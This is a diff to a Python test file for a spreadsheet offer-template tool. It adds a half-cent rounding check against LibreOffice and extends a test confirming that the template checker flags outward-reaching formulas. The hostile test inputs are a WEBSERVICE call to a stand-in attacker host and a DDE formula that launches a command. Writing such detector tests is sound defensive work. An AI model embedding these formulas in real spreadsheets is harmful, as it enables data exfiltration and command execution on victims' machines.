@@ -96,19 +96,37 @@ def plain(path: Path) -> Path:
 # ---------------------------------------------------------------- the templates that come with sheetcrm
 
 
+def halves() -> Offer:
+    """Lines that come to half a cent, as binary fractions nearly do."""
+    lines = []
+    for place in range(1, 200):
+        odd = 2 * place**3 + 1
+        quantity, price, discount = (
+            (D("0.5"), D(odd).scaleb(-2), D(0)),
+            (D(1), D(odd) / 200, D(0)),
+            (D(-1), D(odd) / 200, D(0)),
+            (D(3), D(odd) / 200, D(0)),
+            (D(1), D(odd) / 25, D("12.5")),
+            (D("1.25"), D(odd) / 50, D(20)),
+        )[place % 6]
+        lines.append(OfferLine(quantity, price, D(("21", "11", "5.5", "0")[place % 4]), discount_percent=discount))
+    return replace(example(1), lines=tuple(lines))
+
+
 @pytest.fixture(scope="module")
 def golden(libreoffice: str, tmp_path_factory: pytest.TempPathFactory) -> Path:
     """Every golden offer: filled, without its results and worked out anew by LibreOffice, and as PDF."""
     folder = tmp_path_factory.mktemp("golden")
-    for lines, language in GOLDEN:
-        data = fill_template(TEMPLATES[language], example(lines, language))
-        (folder / f"{lines}-{language}.xlsx").write_bytes(data)
+    offers = {f"{lines}-{language}": example(lines, language) for lines, language in GOLDEN}
+    for name, offer in {**offers, "halves": halves()}.items():
+        data = fill_template(TEMPLATES[offer.language], offer)
+        (folder / f"{name}.xlsx").write_bytes(data)
         with (
             zipfile.ZipFile(BytesIO(data)) as archive,
-            zipfile.ZipFile(folder / f"{lines}-{language} bare.xlsx", "w") as out,
+            zipfile.ZipFile(folder / f"{name} bare.xlsx", "w") as out,
         ):
-            for name in archive.namelist():
-                out.writestr(name, CACHED.sub(rb"\1", archive.read(name)))
+            for part in archive.namelist():
+                out.writestr(part, CACHED.sub(rb"\1", archive.read(part)))
     office = [libreoffice, f"-env:UserInstallation=file://{folder}/profile", "--headless", "--convert-to"]
     bare, full = (
         sorted(folder.glob("* bare.xlsx")),
@@ -119,23 +137,24 @@ def golden(libreoffice: str, tmp_path_factory: pytest.TempPathFactory) -> Path:
     return folder
 
 
-@pytest.mark.parametrize(("lines", "language"), GOLDEN)
-def test_libreoffice_comes_to_our_totals(lines: int, language: str, golden: Path) -> None:
-    offer = example(lines, language)
-    formulas = openpyxl.load_workbook(golden / f"{lines}-{language}.xlsx").active
-    ours = openpyxl.load_workbook(golden / f"{lines}-{language}.xlsx", data_only=True).active
-    anew = openpyxl.load_workbook(golden / "anew" / f"{lines}-{language} bare.xlsx", data_only=True).active
+@pytest.mark.parametrize("name", [*(f"{lines}-{language}" for lines, language in GOLDEN), "halves"])
+def test_libreoffice_comes_to_our_totals(name: str, golden: Path) -> None:
+    lines, _, language = name.partition("-")
+    offer = example(int(lines), language) if language else halves()
+    formulas = openpyxl.load_workbook(golden / f"{name}.xlsx").active
+    ours = openpyxl.load_workbook(golden / f"{name}.xlsx", data_only=True).active
+    anew = openpyxl.load_workbook(golden / "anew" / f"{name} bare.xlsx", data_only=True).active
     places = [cell.coordinate for row in formulas.iter_rows() for cell in row if cell.data_type == "f"]
     said = {place: D(str(anew[place].value)).quantize(D("0.01")) for place in places}
     assert said == {place: D(str(ours[place].value)).quantize(D("0.01")) for place in places}
     assert all(abs(D(str(anew[place].value)) - said[place]) < D("1e-9") for place in places)
     totals = offer.totals
-    assert [said[f"I{row}"] for row in range(16, 16 + lines)] == list(offer.values)
-    below = 16 + lines + 1
+    assert [said[f"I{row}"] for row in range(16, 16 + len(offer.lines))] == list(offer.values)
+    below = 16 + len(offer.lines) + 1
     assert said[f"I{below}"] == totals.net
     assert [said[f"I{below + 1 + n}"] for n in range(len(totals.vat))] == [line.amount for line in totals.vat]
     assert said[f"I{below + 1 + len(totals.vat)}"] == totals.total
-    assert len(places) == lines + 2 + 2 * len(totals.vat)
+    assert len(places) == len(offer.lines) + 2 + 2 * len(totals.vat)
 
 
 @pytest.mark.parametrize(("lines", "language"), GOLDEN)
@@ -568,13 +587,15 @@ def test_links_to_other_files_and_macros_are_told_and_kept(shared: Path, tmp_pat
     assert all("kept and never followed" in f.said("en") for f in findings)
 
 
-def test_formulas_that_reach_out_are_told(path: Path) -> None:
+@pytest.mark.parametrize("formula", ['=WEBSERVICE("http://evil.example")', "=cmd|'/c calc'!A1"])
+def test_formulas_that_reach_out_are_told(path: Path, formula: str) -> None:
     def lay(book: Any) -> None:
         _plain(book)
-        book.active["H1"] = '=WEBSERVICE("http://evil.example")'
+        book.active["H1"] = formula
 
     findings = check_template(_made(path, lay))
     assert [(f.code, f.tab, f.is_error) for f in findings] == [("external-formula", "Offer", False)]
+    assert _filled(path, example(2)).active["H1"].value == formula
 
 
 # ---------------------------------------------------------------- the check
